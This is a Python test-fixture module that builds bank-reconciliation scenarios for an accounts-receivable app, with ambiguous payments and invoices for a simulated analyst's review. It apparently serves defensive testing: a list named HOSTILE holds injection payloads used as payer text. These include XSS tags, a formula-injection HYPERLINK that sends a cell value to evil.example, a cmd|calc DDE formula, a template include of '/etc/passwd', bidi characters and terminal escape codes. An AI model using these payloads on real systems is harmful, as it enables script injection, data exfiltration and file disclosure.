"""A morning's books for one analyst: ten payments that wait, each for another decision, and some that hang on them."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

from schwifty import IBAN

from pipelines import config
from pipelines.app import Kontoklar
from pipelines.review import Assign, Part
from tests.builders import Line, camt053, mt940, write_csv

DAY = date(2026, 10, 6)

Row = dict[str, Any]


@dataclass(frozen=True, slots=True)
class Books:
    """Books on disk. Every look opens them anew, as another program would."""

    folder: Path

    @property
    def file(self) -> Path:
        return self.folder / "kontoklar.toml"

    @property
    def environment(self) -> dict[str, str]:
        """What the kernel of a notebook on these books is told."""
        return {"KONTOKLAR_CONFIG": str(self.file), "KONTOKLAR_AS_OF": DAY.isoformat(), "KONTOKLAR_USER": "anna"}

    @contextmanager
    def open(self) -> Iterator[Kontoklar]:
        app = Kontoklar(config.load(self.file), clock=lambda: "2026-10-06T08:00:00+00:00")
        try:
            yield app
        finally:
            app.close()

    def table(self, name: str) -> list[Row]:
        """One of the exported tables."""
        with self.open() as app:
            return [dict(row) for row in app.inquiries.table(name).to_dict("records")]

    def open_amounts(self) -> dict[str, str]:
        """Invoice → what is still owed; settled ones at 0.00."""
        return {row["invoice_number"]: row["open_amount"] for row in self.table("open-items")}

    def allocated(self) -> dict[str, list[tuple[str, str, str]]]:
        """The bank's reference of a payment → (invoice or @debtor, amount, disposition) of what stands; what no payment
        is behind stands under its kind."""
        references = {row["transaction_id"]: row["bank_reference"] for row in self.table("transactions")}
        found: dict[str, list[tuple[str, str, str]]] = {}
        for row in self.table("allocations"):
            if not row["reversed_by"] and not row["reverses"]:
                where = row["invoice_number"] or f"@{row['debtor_number']}"
                found.setdefault(references.get(row["transaction_id"], row["kind"]), []).append(
                    (where, row["amount"], row["disposition"])
                )
        return {reference: sorted(rows) for reference, rows in found.items()}

    def waiting(self) -> set[str]:
        """The bank's references of what waits."""
        references = {row["transaction_id"]: row["bank_reference"] for row in self.table("transactions")}
        with self.open() as app:
            return {references[row["transaction_id"]] for row in app.inquiries.review_queue(DAY)}

    def transaction(self, reference: str) -> str:
        """The id of the payment with this reference of the bank."""
        return next(row["transaction_id"] for row in self.table("transactions") if row["bank_reference"] == reference)

    def assign_elsewhere(self, reference: str, invoice: str) -> None:
        """What a colleague decides at another desk."""
        with self.open() as app:
            app.review_desk(DAY).apply(
                Assign(transaction_id=self.transaction(reference), part=Part(invoice), user="bert", reason="phone")
            )

    def proven(self) -> list[str]:
        """Invariants that do not hold."""
        with self.open() as app:
            return [result.name for result in app.check()[1] if not result.ok]


def books_with(folder: Path, items: list[Row], lines: list[Line], day: date = DAY) -> Books:
    """Books after a daily run over one statement."""
    folder.mkdir(parents=True, exist_ok=True)
    company = '[company]\nname = "Muster Handels GmbH"\nmode = "test"\n'
    database = f'[database]\nurl = "sqlite:///{folder / "kontoklar.db"}"\n'
    (folder / "kontoklar.toml").write_text(company + database, encoding="utf-8")
    statement = folder / "statement.xml"
    statement.write_bytes(camt053(date(2026, 10, 5), "1000.00", *lines))
    books = Books(folder)
    with books.open() as app:
        app.init()
        app.load("receivables", [write_csv(folder / "receivables.csv", items)], day)
        for _ in app.run(day, files=[statement]):
            pass
    return books


def iban(number: int) -> str:
    """An account of its own for each number."""
    return str(IBAN.generate("DE", bank_code="50010517", account_code=f"{number:010d}"))


def owed(invoice: str, debtor: str, amount: str, name: str, **more: str) -> Row:
    """An open invoice, due at the end of the month."""
    return {
        "invoice_number": invoice, "debtor_number": debtor, "amount": amount, "issue_date": "2026-10-01",
        "due_date": "2026-10-31", "debtor_name": name, **more,
    }  # fmt: skip


def morning(folder: Path) -> Books:
    """Payments nobody could be sure of, each for another decision; the bank's reference says for which."""
    items = [
        # Two invoices of one amount each: which of them was paid?
        *(owed(f"RE-2026-10{n:02d}", "10001", "119.00", "Weiss Handel GmbH") for n in (1, 2)),
        *(owed(f"RE-2026-11{n:02d}", "10002", "240.00", "Braun Optik KG") for n in (1, 2)),
        owed("RE-2026-1201", "10003", "500.00", "Clara Thiele"),
        *(owed(f"RE-2026-130{n}", "10004", f"{60 + 10 * n}.00", "Kanzlei Nord") for n in (1, 2, 3)),
        owed("RE-2026-1401", "10005", "310.00", "Verein Hafenfest"),
        owed("RE-2026-1501", "10006", "9.90", "Nils Petersen"),
        # Paid in full, without a number, from accounts nobody knows: three cases alike.
        *(owed(f"RE-2026-160{n}", f"1001{n}", f"{430 + n}.17", f"Haushalt Grün {n}") for n in (1, 2, 3)),
    ]
    lines = [
        Line("119.00", "Weiss Handel GmbH", iban(1), "Rechnung", ref="ACCEPT"),
        Line("240.00", "Braun Optik KG", iban(2), "Zahlung", ref="REJECT"),
        Line("500.00", "Omas Konto", iban(3), "fuer Clara", ref="ASSIGN"),
        Line("230.00", "Sammelzahler", iban(4), "drei Rechnungen", ref="SPLIT"),
        Line("61.00", "Unbekannt Eins", iban(5), "Kaution", ref="HOLD"),
        Line("45.00", "Verein Hafenfest", iban(6), "Vorauszahlung", ref="ACCOUNT"),
        Line("33.00", "Unbekannt Zwei", iban(7), "Spende", ref="UNDO"),
        *(Line(f"{430 + n}.17", f"Haushalt {n}", iban(10 + n), f"Bepflanzung {n}", ref=f"LIKE{n}") for n in (1, 2, 3)),
        Line("77.00", "Unbekannt Drei", iban(8), "ohne Angabe", ref="STALE"),
        Line("88.00", "Unbekannt Vier", iban(9), "ohne Angabe", ref="LEFT"),
    ]
    return books_with(folder, items, lines)


def law_firm(folder: Path) -> Books:
    """Somebody else pays a debtor's invoices, twice: who confirms the first settles the second."""
    items = [
        owed("RE-2026-2001", "10002", "412.55", "Bergmann Elektro"),
        owed("RE-2026-2002", "10002", "733.91", "Bergmann Elektro"),
    ]
    lines = [
        Line("412.55", "Kanzlei Sued", iban(21), "wie besprochen", ref="FIRST"),
        Line("733.91", "Kanzlei Sued", iban(21), "Danke", ref="SECOND"),
    ]
    return books_with(folder, items, lines)


# What strangers write. Each would do something somewhere if it were taken for more than text.
HOSTILE = (
    "<img src=x onerror=window.pwned=1>",
    "<script>window.pwned=2;alert(2)</script>",
    "<svg/onload=alert(3)><iframe src=https://evil.example/x>",
    '"><a href="javascript:window.pwned=4" onclick=alert(4)>RE-2026-1</a>',
    '=HYPERLINK("https://evil.example/?"&A1;"RE-2026-2")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202e1002-6202-ER\u202c \u200fRE\u200b-2026\u2066-3\u2069",
    "# Titel **fett** [klick](https://evil.example) ![bild](https://evil.example/b.png) `code` | a | b |",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "$$\\href{javascript:alert(5)}{x}$$ \\(e^x\\)",
    "Sehr lang " + "ABCDEFGHIJ" * 13,
)


def hostile(folder: Path) -> Books:
    """A payment for each hostile text, in the name as well; one names an invoice, so that alternatives are shown."""
    items = [owed("RE-2026-7001", "10007", "61.00", "<b>Fett</b> & Söhne")]
    lines = [
        Line(f"{60 + place}.00", text[:70], iban(30 + place), text, ref=f"X{place}")
        for place, text in enumerate(HOSTILE)
    ]
    books = books_with(folder, items, lines)
    # Control characters cannot stand in XML; MT940 carries what it likes.
    escape = folder / "escape.sta"
    escape.write_bytes(
        mt940(date(2026, 10, 5), "0.00", Line("59.00", "Klingel", iban(50), "\x1b[31mrot\x07\x08", ref="X99"),
              account=iban(60))
    )  # fmt: skip
    with books.open() as app:
        for _ in app.run(DAY, files=[escape]):
            pass
    return books
